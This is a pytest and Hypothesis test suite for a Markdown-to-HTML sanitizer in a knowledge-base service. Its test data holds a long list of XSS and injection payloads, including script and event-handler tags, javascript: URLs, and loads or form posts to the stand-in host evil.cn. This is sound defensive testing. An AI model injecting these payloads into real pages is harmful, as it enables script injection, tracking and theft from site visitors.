"""Markdown becomes safe HTML, whatever was typed, in bounded time, and looks as people expect."""

import time
from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kb_service import rendering
from kb_service.markdown_source import DEEPEST, LONGEST

TEXT_LENGTH = 20_000
LOCAL = {"attachment": "/attachments/x", "article": "/articles/KB000001"}
UNPRINTABLE = str.maketrans({"⏎": "\n", "␀": "\0", "␂": "\2", "␃": "\3", "␡": "\u202e"})
TYPED = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.cn/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt>
<img src=x onerror=alert(1)>
<img/src='x'/onerror=alert(1)>
<IMG SRC=`javascript:alert(1)`>
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><a xlink:href='javascript:alert(1)'>x</a></svg>
<math><mtext><img src onerror=alert(1)></mtext></math>
<math href='javascript:alert(1)'>x</math>
<iframe src='javascript:alert(1)'></iframe>
<iframe srcdoc='<script>alert(1)</script>'></iframe>
<object data='data:text/html,x'></object>
<embed src='//evil.cn/x.swf'>
<applet code=x></applet>
<style>*{background:url(//evil.cn)}</style>
<style>@import '//evil.cn';</style>
<link rel=stylesheet href=//x>
<meta http-equiv=refresh content='0;url=//evil.cn'>
<base href='//evil.cn/'>
<title>x</title>
<form action='//evil.cn'><input name=p><button>x</button></form>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>
<video src=x onerror=alert(1)>
<body onload=alert(1)>
<b onmouseover=alert(1)>x</b>
<p style='position:fixed'>x</p>
<b id=app class=btn>x</b>
<a href='javascript:alert(1)'>x</a>
<a href='JaVaScRiPt:alert(1)'>x</a>
<a href='java⏎script:alert(1)'>x</a>
<a href='java&#10;script:alert(1)'>x</a>
<a href='&#106;avascript:alert(1)'>x</a>
<a href=' javascript:x'>x</a>
<a href='vbscript:x'>x</a>
<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>
<a href='file:///etc/passwd'>x</a>
<a href='//evil.cn'>x</a>
<a href='/\evil.cn'>x</a>
<a href='http://a.cn' target=_blank ping=//b.cn>x</a>
[x](javascript:alert(1))
[x](<java script:alert(1)>)
[x](JAVASCRIPT&colon;alert(1))
[x](data:text/html,1)
[x](http://a.cn "t' onclick='alert(1)")
[x](http://a.cn"onclick=alert(1))
![x](x" onerror="alert(1))
![x](javascript:alert(1))
![x](http://evil.cn/track.png)
![x](//evil.cn/t.png)
![x](data:image/svg+xml,<svg>)
<javascript:alert(1)>
<http://a.cn/"onclick=alert(1)>
[r]: javascript:alert(1)⏎⏎[x][r]
[x]: <data:text/html,1>⏎[x]
<noscript><p title='</noscript><img src=x onerror=alert(1)>'>
<table><caption><script>x</script></caption></table>
<!--><script>alert(1)</script>-->
<!-- --!><img src=x onerror=alert(1)>
<![CDATA[<script>alert(1)</script>]]>
<?php echo 1 ?><script>x</script>
<b␀ onclick=x>x</b>
<␀script>alert(1)</script>
␡<b>txt.exe</b>
```html⏎<script>alert(1)</script>⏎```
`<img src=x onerror=alert(1)>`
| a |⏎|---|⏎| <svg onload=x> |
- <script>x</script>⏎  - <img src=x onerror=x>
> <iframe src=x>
# <script>x</script>
{{7*7}} ${7*7} {% x %}
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;img src=x onerror=alert(1)&#62;
<img src=attachment:../../x onerror=x>
[x](attachment:javascript:alert(1))
[x](article:"><script>x</script>)
␂klzzwxh:0000␃<script>x</script>
""".strip().splitlines()
PAYLOADS = [payload.translate(UNPRINTABLE) for payload in TYPED]


class Safe(HTMLParser):
    """Fails on anything that is not on the lists."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in rendering.TAGS
        for name, value in attrs:
            assert name in rendering.ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
            if name in ("href", "src"):
                self.check(tag, value or "")

    def check(self, tag: str, address: str) -> None:
        assert not address.startswith(("//", "/\\"))
        assert urlsplit(address).scheme in ({"", *rendering.SCHEMES} if tag == "a" else {""})
        assert tag == "a" or address.startswith("/attachments/")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError("a comment")

    handle_decl = handle_pi = unknown_decl = handle_comment


def html(markdown: str) -> str:
    return rendering.to_html(markdown, lambda noun, key: LOCAL[noun])


def checked(markdown: str) -> str:
    page = html(markdown)
    reader = Safe()
    reader.feed(page)
    reader.close()
    return page


AROUND = (
    *("{}", "文字 {} 文字", "- {}", "> {}", "**{}**", "[{}](http://a.cn)"),
    *("| {} |\n|---|\n| {} |", "1. a\n\n   {}"),
)
PIECES = ("\n", "\n\n", " ", "*", "`", "<", ">", '"', "](", "![", "&", "\\")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_only_what_is_listed_remains(payload: str) -> None:
    for around in (
        "{}",
        "文字 {} 文字",
        "- {}",
        "> {}",
        "**{}**",
        "[{}](http://a.cn)",
        "| {} |\n|---|\n| {} |",
        "1. a\n\n   {}",
    ):
        checked(around.replace("{}", payload))


@given(st.lists(st.sampled_from([*PAYLOADS, *PIECES]), max_size=8))
@settings(max_examples=200)
def test_payloads_stuck_together_are_as_safe(parts: list[str]) -> None:
    checked("".join(parts))


@given(st.text(st.characters(codec="utf-8"), max_size=300))
@settings(max_examples=200)
def test_any_text_becomes_a_page_and_a_plain_text(text: str) -> None:
    page = checked(text)
    assert isinstance(rendering.to_text(page), str)


def test_plain_text_has_no_markup_and_keeps_what_was_told() -> None:
    assert rendering.to_text(html("若 a<b && c>d 则 `x<y`")) == "若 a<b && c>d 则 x<y"
    assert rendering.to_text(html("ssh <user>@<host> 之后")) == "ssh <user>@<host> 之后"
    assert rendering.to_text(html("一\n\n- 二\n- 三\n\n|四|五|\n|-|-|\n|六|七|")) == "一\n二\n三\n四 五\n六 七"
    assert rendering.to_text(html("<script>alert(1)</script>留下")) == "留下"


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("步骤：\n1. 甲\n2. 乙", "<p>步骤：</p><ol><li>甲</li><li>乙</li></ol>"),
        ("1. 甲\n   - 子\n   - 丑\n2. 乙", "<ol><li>甲<ul><li>子</li><li>丑</li></ul></li><li>乙</li></ol>"),
        ("- a\n  - b\n    - c\n- d", "<ul><li>a<ul><li>b<ul><li>c</li></ul></li></ul></li><li>d</li></ul>"),
        ("- a\n  接着说\n- b", "<ul><li>a  接着说</li><li>b</li></ul>"),
        ("4. 四\n5. 五", "<ol><li>四</li><li>五</li></ol>"),
        ("文字\n```\nx\n```\n之后", "<p>文字</p><pre><code>x</code></pre><p>之后</p>"),
        ("```yaml\nkey:\n- a\n```\n- b", "<pre><code>key:- a</code></pre><ul><li>b</li></ul>"),
        ("1. 甲\n\n   ```sql\n   a<b;\n   ```", "<ol><li><p>甲</p><pre><code>a&lt;b;</code></pre></li></ol>"),
        ("# 大\n## 中", "<h2>大</h2><h2>中</h2>"),
        ("一  \n二", "<p>一<br>二</p>"),
        ("~~旧~~ H~2~O", "<p><del>旧</del> H<sub>2</sub>O</p>"),
    ],
)
def test_texts_look_as_people_mean_them(markdown: str, expected: str) -> None:
    assert checked(markdown).replace("\n", "") == expected


def test_tables_keep_their_columns_and_alignment() -> None:
    page = checked("|甲|乙|\n|-|-:|\n|1|2|\n")
    assert page.count("<tr>") == 2
    assert '<td align="right">2</td>' in page


@pytest.mark.parametrize(
    ("markdown", "tag"),
    [
        ("|a|b|c|\n|-|-|-|\n" + "|[x](http://a.cn)|`c`|**d**|\n" * 200, "<table>"),
        ("```\n" + "a[b](c)*d* _e_\n" * 500 + "```", "<pre><code>a[b](c)*d*"),
        ("- **甲**：`乙`\n" * 200, "<ul>"),
    ],
)
def test_long_tables_lists_and_logs_are_laid_out(markdown: str, tag: str) -> None:
    assert checked(markdown).startswith(tag)


def test_references_lead_to_us_or_become_their_text() -> None:
    text = "[甲](article:a%20b) ![图](attachment:1.png)"
    asked: list[tuple[str, str]] = []

    def resolve(noun: str, key: str) -> str | None:
        asked.append((noun, key))
        return LOCAL[noun]

    page = rendering.to_html(text, resolve)
    assert asked == [("article", "a b"), ("attachment", "1.png")]
    assert 'href="/articles/KB000001"' in page
    assert 'src="/attachments/x"' in page
    lost = rendering.to_html(text, lambda noun, key: None)
    assert "href" not in lost
    assert "src" not in lost


RUNS = {"spaces": " ", "full_spaces": "\u3000", "word": "x", "quotes": ">", "dashes": "-", "digits": "1", "stx": "\2"}
MARKS = {"open": "[", "image": "![", "link": "[a](", "star": "*a ", "tick": "`", "amp": "&", "lt": "<"}


def nasty() -> Iterator[tuple[str, str]]:
    size = TEXT_LENGTH
    for name, mark in RUNS.items():
        yield name, f"a{mark * size}b"
        yield f"{name}_alone", mark * size
    for name, mark in MARKS.items():
        line = mark * (390 // len(mark))
        yield f"{name}_lines", f"{line}\n\n" * (size // len(line))
        yield f"{name}_run", mark * (size // len(mark))
    yield "rows", "|a|b|\n|-|-|\n" + "|[[[[|((((|\n" * (size // 12)
    yield "false_table", "a|b\n" + "|[[[[[[\n" * (size // 8)
    yield "false_fence", "```\n" + "[" * size
    yield "list_run", "- a\n" * (size // 4)
    yield "words_and_spaces", "a b " * (size // 4)
    yield "blank_lines", "\n " * (size // 2) + "x"
    yield "deep", " " * 4_000 + "- a\n" + "> " * 400
    yield "comments", "<!--" * (size // 4)


@pytest.mark.parametrize(("name", "text"), list(nasty()), ids=[name for name, _ in nasty()])
def test_a_nasty_text_takes_no_more_than_a_multiple_of_a_plain_one(name: str, text: str) -> None:
    plain = "- 开票软件 **登录** 不上\n" * (TEXT_LENGTH // 17)

    def seconds(markdown: str) -> float:
        begun = time.process_time()
        rendering.to_text(html(markdown))
        return time.process_time() - begun

    html("warm")
    assert seconds(text) < 30 * seconds(plain) + 0.5


def test_what_is_too_much_is_shown_as_it_was_typed() -> None:
    deep = "\n".join("  " * level + "- a" for level in range(DEEPEST * 3))
    for text in (deep, "[" * 5_000, "字" * (LONGEST + 1), "```\n" * 900):
        page = checked(text)
        assert page.startswith("<pre>")
        assert page.count("<") == 2
